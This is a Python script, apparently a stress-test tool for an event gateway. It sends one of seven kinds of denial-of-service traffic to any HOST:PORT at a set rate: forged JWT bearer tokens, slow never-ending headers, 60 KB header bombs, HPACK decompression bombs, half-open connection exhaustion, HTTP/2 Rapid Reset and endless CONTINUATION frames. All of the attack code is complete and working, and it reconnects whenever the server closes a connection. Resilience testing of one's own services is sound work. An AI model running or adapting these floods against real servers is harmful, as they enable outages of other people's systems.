"""One kind of bad traffic at a fixed rate, for a while: flood.py KIND HOST:PORT RATE SECONDS

Kinds, and what RATE counts each second:
  bad-tokens     publishes with tokens that are signed wrongly, each another one
  slow-heads     single bytes of heads that never end, over as many connections
  header-bombs   HTTP/1.1 requests with 60 KB of fields, each on a new connection
  hpack-bombs    HTTP/2 requests whose 9 KB of HPACK stand for 36 MB of fields
  half-open      connections opened and left alone, up to 2,000
  rapid-reset    HTTP/2 requests, each reset at once
  continuation   CONTINUATION frames behind a HEADERS frame that never ends

A connection that the gateway ends is opened again. At the end one line tells what was sent.
"""

import base64
import os
import resource
import socket
import sys
import time

OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
TARGET = b"/v1/topics/acme/shop/orders/events"


def frame(kind, flags, stream, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags])
            + stream.to_bytes(4, "big") + payload)


def literal(name, value, prefix=b"\0"):
    rest, length = len(value) - 127, b""
    if rest < 0:
        length = bytes([len(value)])
    else:
        length = b"\x7f"
        while rest >= 128:
            length += bytes([rest & 127 | 128])
            rest >>= 7
        length += bytes([rest])
    return prefix + bytes([len(name)]) + name + length + value


HEAD = b"".join(literal(*pair) for pair in [
    (b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", TARGET)])


class Flood:
    def __init__(self, address):
        self.address = address
        self.sent = self.opened = self.lost = 0
        self.open = {}

    def connect(self):
        """A connection, or nothing where the gateway takes none now."""
        try:
            link = socket.create_connection(self.address, timeout=1)
        except OSError:
            self.lost += 1
            return None
        link.setblocking(False)
        self.opened += 1
        return link

    def link(self, slot):
        """The connection of a slot; a new one is opened where the last was ended."""
        link = self.open.get(slot)
        if link is not None:
            try:
                while True:
                    if not link.recv(65536):
                        raise ConnectionError
            except BlockingIOError:
                return link
            except OSError:
                link.close()
                self.lost += 1
        self.open[slot] = link = self.connect()
        if link is not None:
            self.begin(slot, link)
        return link

    def begin(self, slot, link):
        pass

    def send(self, slot, data):
        link = self.link(slot)
        if link is None:
            return
        try:
            link.send(data)
            self.sent += 1
        except BlockingIOError:
            pass
        except OSError:
            link.close()
            self.open[slot] = None
            self.lost += 1


class BadTokens(Flood):
    head = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"at+jwt","kid":"k1"}').rstrip(b"=")

    def step(self, number):
        now = int(time.time())
        claims = ('{"iss":"https://issuer.example","aud":"events","sub":"bench","iat":%d,"exp":%d,'
                  '"jti":"%d"}' % (now, now + 3600, number)).encode()
        token = b".".join([self.head, base64.urlsafe_b64encode(claims).rstrip(b"="),
                           base64.urlsafe_b64encode(os.urandom(256)).rstrip(b"=")])
        self.send(number % 16, b"POST " + TARGET + b" HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n"
                  b"Content-Type: application/json\r\nAuthorization: Bearer " + token
                  + b"\r\n\r\n{}")


class SlowHeads(Flood):
    def __init__(self, address, rate):
        super().__init__(address)
        self.rate = rate

    def begin(self, slot, link):
        link.send(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")

    def step(self, number):
        self.send(number % self.rate, b"y")


class HeaderBombs(Flood):
    bomb = (b"GET / HTTP/1.1\r\nHost: a\r\n"
            + b"".join(b"X-%d: " % n + b"y" * 7000 + b"\r\n" for n in range(9)))

    def step(self, number):
        slot = number % 256
        old = self.open.pop(slot, None)
        if old is not None:
            old.close()
        self.send(slot, self.bomb)


class HPACKBombs(Flood):
    bomb = OPENING + frame(1, 5, 1, HEAD + literal(b"x", b"y" * 4000, b"\x40") + b"\xbe" * 9000)

    step = HeaderBombs.step


class HalfOpen(Flood):
    def step(self, number):
        if number < 2000:
            self.link(number)
            self.sent += 1
        else:
            # Those that were ended come back.
            self.link(number % 2000)


class RapidReset(Flood):
    def begin(self, slot, link):
        link.send(OPENING)
        self.next[slot] = 1

    def __init__(self, address):
        super().__init__(address)
        self.next = {}

    def step(self, number):
        slot = number % 8
        if self.link(slot) is None:
            return
        stream = self.next[slot]
        self.next[slot] += 2
        self.send(slot, frame(1, 5, stream, HEAD) + frame(3, 0, stream, b"\0\0\0\x08"))


class Continuation(Flood):
    def begin(self, slot, link):
        link.send(OPENING + frame(1, 1, 1, HEAD))

    def step(self, number):
        self.send(number % 8, frame(9, 0, 1, literal(b"x-%d" % number, b"y" * 100)))


def main():
    kind, address, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    host, port = address.rsplit(":", 1)
    address = (host, int(port))
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    flood = {
        "bad-tokens": BadTokens, "slow-heads": lambda a: SlowHeads(a, rate),
        "header-bombs": HeaderBombs, "hpack-bombs": HPACKBombs, "half-open": HalfOpen,
        "rapid-reset": RapidReset, "continuation": Continuation,
    }[kind](address)
    began = time.monotonic()
    done = 0
    while (passed := time.monotonic() - began) < seconds:
        due = int(passed * rate)
        while done < due:
            flood.step(done)
            done += 1
        time.sleep(0.002)
    used = resource.getrusage(resource.RUSAGE_SELF)
    print("%d of %d sent (%d a second), %d connections, %d ended by the gateway, %.2f cores"
          % (flood.sent, done, done / seconds, flood.opened, flood.lost,
             (used.ru_utime + used.ru_stime) / seconds))


main()
